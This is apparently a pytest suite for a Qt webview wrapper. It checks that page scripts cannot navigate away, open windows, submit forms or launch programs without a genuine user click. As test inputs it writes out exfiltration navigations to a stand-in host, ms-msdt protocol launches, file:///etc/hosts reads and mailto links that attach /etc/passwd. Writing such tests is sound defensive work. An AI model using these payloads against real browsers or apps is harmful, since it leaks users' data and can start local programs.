"""A page that tries to leave its app, or to send data out by an address, without the artist's action."""

from __future__ import annotations

import itertools

import pytest
from qtpy.QtTest import QTest

from auroraview_qt import Policy
from auroraview_qt.qt.input.gestures import MAX_OPENINGS
from tests.servers import serving

OUT = "https://example.com/?scene-data"
#: Ways to leave a page by script.
WAYS = {
    "href": f"location.href = '{OUT}'",
    "replace": f"location.replace('{OUT}')",
    "open": f"window.open('{OUT}')",
    "open in self": f"window.open('{OUT}', '_self')",
    "open named": f"window.open('{OUT}', 'name', 'width=200')",
    "native open": f"Object.getPrototypeOf(frames[0]).constructor && frames[0].open('{OUT}')",
    "link": f"link('{OUT}', '')",
    "link to a window": f"link('{OUT}', '_blank')",
    "link with ping": f"link('#', '', '{OUT}')",
    "mail": "link('mailto:a@b.c?body=scene-data', '')",
    "mail in a window": "window.open('mailto:a@b.c?body=scene-data')",
    "meta refresh": f"document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={OUT}\">')",
    "form": f"form('{OUT}', 'get', '')",
    "form that posts": f"form('{OUT}', 'post', '')",
    "form to a window": f"form('{OUT}', 'get', '_blank')",
    "frame with a mail": "frame('mailto:a@b.c?body=scene-data')",
    "frame with a program": "frame('ms-msdt:/id')",
    "parent of a frame": f"frames[0].eval(\"parent.location = '{OUT}'\")",
    "top of a frame": f"frames[0].eval(\"top.location = '{OUT}'\")",
    "blob": "location.href = URL.createObjectURL(new Blob(['<p>'], {type: 'text/html'}))",
    "data": "location.href = 'data:text/html,<p>scene-data'",
    "file": "location.href = 'file:///etc/hosts'",
    "view-source": "location.href = 'view-source:https://example.com/'",
    "program": "location.href = 'ms-msdt:/id'",
    "own scheme": "location.href = 'auroraview://other-view/'",
    "odd case": "location.href = 'HTTPS://EXAMPLE.com/?scene-data'",
}
PAGE = """<!doctype html><title>app</title><iframe srcdoc="<p>"></iframe><button id=button>b</button><input id=field>
<script>
  window.got = [];
  window.link = (href, target, ping) => Object.assign(document.createElement('a'), {href, target, ping: ping || ''}).click();
  window.form = (action, method, target) => {
    const made = Object.assign(document.createElement('form'), {action, method, target});
    made.innerHTML = '<input name=q value=scene-data>';
    document.body.append(made);
    made.submit();
  };
  window.frame = (src) => document.body.append(Object.assign(document.createElement('iframe'), {src}));
</script>"""


class Opener:
    """Opens things for the capability "shell"."""

    def __init__(self):
        self.got = []

    def open_url(self, url):
        self.got.append(url.toString())
        return True

    def show(self, path):
        self.got.append(str(path))
        return True


@pytest.fixture
def attacked(make_view, wait_until, expect_log):
    """Make a view whose page never leaves by mistake, and the list of addresses that it has opened outside."""
    expect_log("")  # refusals of this package and errors of Chromium, which differ by version

    def make(html=PAGE, **keywords):
        view, opened = make_view(html, **keywords), []
        view.page().open_external = lambda url: opened.append(url.toString())
        return view, opened

    return make


@pytest.fixture
def settle(js, wait_until):
    """Wait until the engine has answered all requests of the page so far."""

    def wait(view):
        arrived = []
        view.on("settled", arrived.append)
        for turn in range(3):
            js(view, f"(setTimeout(() => auroraview.emit('settled', {turn}), 50), 1)")
            wait_until(lambda turn=turn: turn in arrived)

    return wait


@pytest.mark.parametrize("way", WAYS.values(), ids=list(WAYS))
def test_script_without_a_gesture_leads_nowhere(attacked, js, settle, way):
    view, opened = attacked()
    js(view, f"((() => {{ {way} }})(), 1)")
    settle(view)
    assert opened == []
    assert [view.url().scheme(), view.title(), js(view, "typeof auroraview")] == ["auroraview", "app", "object"]


@pytest.mark.parametrize("way", [WAYS["href"], WAYS["link"], WAYS["open"], WAYS["mail"]])
def test_loop_without_a_gesture_costs_the_log_a_few_lines(attacked, js, settle, caplog, way):
    view, opened = attacked()
    js(
        view,
        f"(window.n = 0, window.timer = setInterval(() => {{ n += 1; if (n > 60) clearInterval(timer); {way} }}, 5), 1)",
    )
    settle(view)
    js(view, "n")
    assert opened == []
    assert len([record for record in caplog.records if "refused" in record.getMessage()]) <= 2


def test_script_of_the_first_moment_leads_nowhere(attacked, wait_until, tmp_path):
    (tmp_path / "index.html").write_text("<title>app</title><script src=a.js></script>")
    (tmp_path / "a.js").write_text(
        f"window.n = 0; location.href = '{OUT}'; setInterval(() => {{ n += 1; location.href = '{OUT}' }}, 10);"
    )
    view, opened = attacked(None)
    for loads in (1, 2):
        view.load_app(tmp_path)  # the engine leaves out the other part of such a page, and it is never ready
        counts = []  # not asked with js(): the engine may lose an answer while a document begins

        def has_tried(loads=loads, counts=counts):
            if view.stats()["pages"] < loads or view.title() != "app":
                return False
            view.page().runJavaScript("window.n || 0", 0, counts.append)
            return any(n and n > 20 for n in counts)

        wait_until(has_tried, "20 attempts")
        assert [opened, view.url().scheme()] == [[], "auroraview"]


def test_script_cannot_leave_while_the_program_loads_another_page(attacked, js, wait_until):
    view, opened = attacked()
    with serving({"/": "<title>manual</title>"}) as server, serving({"/": "<title>thief</title>"}) as thief:
        attempt = f"location.href = '{thief.url}/?scene-data'"
        for _ in range(5):
            js(view, f"(window.n = 0, setInterval(() => {{ n += 1; if (n < 100) {attempt} }}, 1), 1)")
            view.load_url(f"{server.url}/")  # which a navigation of the page may cancel on Qt 5
            wait_until(lambda: view.title() == "manual" or js(view, "window.n || 0") > 100)
            view.load_html(PAGE)
            wait_until(lambda: view.is_ready and view.title() == "app")
        assert thief.requests == []
    assert opened == []


def test_redirect_of_a_trusted_server_leads_nowhere(attacked, js, settle, wait_until):
    pages = {"/": PAGE, "/out": (302, {"Location": OUT}, "")}
    with serving(pages) as server:
        view, opened = attacked(None, trusted_origins=[server.url])
        view.load_url(f"{server.url}/")
        wait_until(lambda: view.is_ready)
        js(view, "(location.href = '/out', 1)")
        settle(view)
        assert [opened, view.title()] == [[], "app"]


def test_page_that_was_left_in_the_history_gets_nothing_new(attacked, js, wait_until):
    with serving({"/": "<title>manual</title>"}) as server:
        view, opened = attacked()
        view.load_url(f"{server.url}/")
        wait_until(lambda: view.title() == "manual")
        view.load_html(PAGE)
        wait_until(lambda: view.is_ready and view.title() == "app")
        before = len(server.requests)
        js(view, f"(history.back(), location.href = '{server.url}/?scene-data', 1)")
        wait_until(lambda: view.title() == "manual" or view.is_ready)
        assert [path for path in server.requests[before:] if "scene-data" in path] == []
    assert opened == []


def test_each_click_opens_one_address(attacked, js, click, settle, wait_until):
    view, opened = attacked()
    js(view, "(button.onclick = () => { for (let n = 0; n < 20; n += 1) location.href = 'https://example.com/' + n }, 1)")
    click(view, "#button")
    wait_until(lambda: opened)
    settle(view)
    assert len(opened) == 1


def test_window_and_link_of_one_click_open_one_address(attacked, js, click, settle, wait_until):
    view, opened = attacked()
    script = f"open('{OUT}'); open('{OUT}'); location.href = '{OUT}'; link('{OUT}', '_blank'); link('{OUT}', '')"
    js(view, f"(button.onclick = () => {{ {script} }}, 1)")
    click(view, "#button")
    wait_until(lambda: opened)
    settle(view)
    assert len(opened) == 1


def test_many_clicks_open_a_few_addresses(attacked, js, click, settle, wait_until):
    view, opened = attacked()
    js(view, f"(button.onclick = () => {{ location.href = '{OUT}' }}, 1)")
    for _ in range(MAX_OPENINGS * 3):
        click(view, "#button")
        settle(view)
    assert len(opened) == MAX_OPENINGS


def test_text_that_is_typed_opens_nothing(attacked, js, click, settle):
    view, opened = attacked()
    js(view, f"(field.onkeydown = () => {{ location.href = '{OUT}'; open('{OUT}') }}, 1)")
    view.activateWindow()
    click(view, "#field")
    settle(view)
    view.page().gestures.take_gesture()  # the click's
    for letter in "abc":
        QTest.keyClick(view.focusProxy(), letter)
    settle(view)
    assert js(view, "field.value") == "abc"
    assert opened == []


def test_untrusted_page_leads_nowhere_either(attacked, js, wait_until):
    page = f"<title>foreign</title><script>setInterval(() => {{ location.href = '{OUT}'; open('{OUT}') }}, 20)</script>"
    with serving({"/": page}) as server:
        view, opened = attacked()
        view.load_url(f"{server.url}/")
        wait_until(lambda: view.title() == "foreign" and len(server.requests) >= 1)
        turns = itertools.count()
        wait_until(lambda: js(view, "document.title") == "foreign" and next(turns) > 20)
        assert view.url().toString() == f"{server.url}/"
    assert opened == []


def test_address_of_a_megabyte_is_not_opened_after_a_click(attacked, js, click, settle, caplog):
    view, opened = attacked()
    js(view, "(button.onclick = () => { location.href = 'https://example.com/?' + 'x'.repeat(1000000) }, 1)")
    click(view, "#button")
    settle(view)
    assert opened == []
    assert "the limit is 8,000" in caplog.text
    assert all(len(record.getMessage()) < 2_000 for record in caplog.records)


@pytest.mark.parametrize("query", ["attach=/etc/passwd", "%61ttachment=x", "subject=x&ATTACH=y", "body=" + "x" * 3_000])
def test_mail_link_that_attaches_or_carries_much_is_not_opened_after_a_click(attacked, js, click, settle, query):
    view, opened = attacked()
    js(view, f"(button.onclick = () => link('mailto:a@b.c?{query}', ''), 1)")
    click(view, "#button")
    settle(view)
    assert opened == []


def test_frame_opens_no_program_after_a_click(attacked, js, click, settle):
    view, opened = attacked()
    js(view, "(button.onclick = () => { frame('ms-msdt:/id'); frame('mailto:a@b.c?attach=x') }, 1)")
    click(view, "#button")
    settle(view)
    assert opened == []


def test_policy_that_refuses_popups_opens_nothing_after_a_click(attacked, js, click, settle, caplog):
    view, opened = attacked(policy=Policy(popups="refuse"))
    for way in (WAYS["href"], WAYS["open"], WAYS["link to a window"], WAYS["form to a window"], WAYS["mail"]):
        js(view, f"(button.onclick = () => {{ {way} }}, 1)")
        click(view, "#button")
        settle(view)
    assert opened == []
    assert 'Policy(popups="browser") opens it' in caplog.text


def test_gesture_in_another_view_is_none_of_this_one(attacked, js, click, settle):
    view, opened = attacked()
    other, _ = attacked()
    click(other, "#button")
    js(view, f"({WAYS['href']}, 1)")
    settle(view)
    assert opened == []


def test_gesture_sent_by_a_script_of_the_page_is_none(attacked, js, settle):
    view, opened = attacked()
    js(
        view,
        f"""(button.onclick = () => {{ {WAYS["href"]}; {WAYS["open"]} }},
        ['mousedown', 'pointerdown', 'keydown', 'click'].forEach((type) => button.dispatchEvent(new MouseEvent(type))),
        button.click(), 1)""",
    )
    settle(view)
    assert opened == []


def test_middle_click_on_a_link_to_a_program_opens_nothing(attacked, js, click, settle):
    view, opened = attacked('<title>app</title><a id=button href="ms-msdt:/id">x</a>')
    click(view, "#button", "Middle")
    click(view, "#button", modifier="Control")
    settle(view)
    assert [opened, view.title()] == [[], "app"]


def test_shell_without_a_gesture_opens_nothing_and_after_a_click_a_few_things(attacked, js, click, wait_until, tmp_path):
    view, _ = attacked('<title>app</title><script>window.ended = []</script><button id="button">b</button>')
    opener = Opener()
    (tmp_path / "a.png").write_text("x")
    view.enable("shell", paths=tmp_path, opener=opener)
    calls = ["open('https://example.com/')", f"openPath('{tmp_path}/a.png')", f"showInFolder('{tmp_path}/a.png')"] * 7
    script = ", ".join(f"auroraview.shell.{call}.then(() => ended.push('ok'), (e) => ended.push(e.code))" for call in calls)
    wait_until(lambda: js(view, "!!auroraview.shell"))
    js(view, f"({script}, 1)")
    wait_until(lambda: js(view, "ended.length") == len(calls))
    assert [opener.got, js(view, "new Set(ended).size === 1 && ended[0]")] == [[], "PERMISSION_DENIED"]
    click(view, "#button")
    js(view, f"(ended.length = 0, {script}, 1)")
    wait_until(lambda: js(view, "ended.length") == len(calls))
    assert len(opener.got) == js(view, "ended.filter((end) => end === 'ok').length") == MAX_OPENINGS
